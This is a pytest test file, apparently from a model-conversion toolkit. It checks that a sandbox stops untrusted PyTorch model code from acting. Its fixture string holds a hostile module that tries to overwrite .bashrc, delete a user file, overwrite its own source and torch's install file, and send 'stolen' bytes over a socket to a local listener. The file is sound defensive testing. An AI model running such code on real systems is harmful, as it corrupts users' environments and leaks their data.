"""Foreign model code that misbehaves: it is built, and what it tried has no effect."""

import socket
import sys
from pathlib import Path

import pytest

from converters.frontends.pytorch import ExportSpec, export
from converters.sandbox import LAYERS, trial
from registry.card import Entry, Input

pytestmark = [pytest.mark.slow, pytest.mark.skipif(sys.platform != "linux", reason="the layers are Linux's")]

FOREIGN = """
import subprocess, sys
from pathlib import Path

import torch

REACH = "import socket; socket.create_connection(('127.0.0.1', PORT), 2).sendall(b'stolen')"

class Misbehaves(torch.nn.Linear):
    def __init__(self, home, port):
        super().__init__(4, 2)
        self.tried = []
        for what in (
            lambda: Path(home, ".bashrc").write_text("evil"),
            lambda: Path(home, "precious").unlink(),
            lambda: Path(__file__).write_text("other code"),
            lambda: Path(torch.__file__).write_text("evil"),
        ):
            try:
                what()
            except OSError:
                self.tried.append("refused")
        done = subprocess.run([sys.executable, "-c", REACH.replace("PORT", str(port))], capture_output=True)
        self.tried.append("refused" if done.returncode else "sent")
        Path.home().joinpath(".cache").mkdir(exist_ok=True)
        assert self.tried == ["refused"] * 5, self.tried
"""


def test_foreign_code_changes_nothing_and_reaches_nobody(tmp_path: Path) -> None:
    works = trial.held(tuple(LAYERS))
    if not (works["network"] and works["writing"]):
        pytest.skip("this platform has no sandbox: docs/threats.md says what holds then")
    home, checkout = tmp_path / "home", tmp_path / "checkout"
    home.mkdir()
    checkout.mkdir()
    (home / "precious").write_text("x")
    (checkout / "bad.py").write_text(FOREIGN)
    with socket.create_server(("127.0.0.1", 0)) as listening:
        listening.settimeout(0)
        entry = Entry(module="bad", cls="Misbehaves", args=(str(home), listening.getsockname()[1]))
        spec = ExportSpec(entry=entry, inputs=(Input(name="x", shape=(1, 4)),), checkout=checkout)
        export(spec, tmp_path / "out" / "bad.onnx")
        with pytest.raises(BlockingIOError):
            listening.accept()
    assert [path.name for path in home.iterdir()] == ["precious"]
    assert (checkout / "bad.py").read_text() == FOREIGN
    assert [path.name for path in (tmp_path / "out").iterdir()] == ["bad.onnx"]
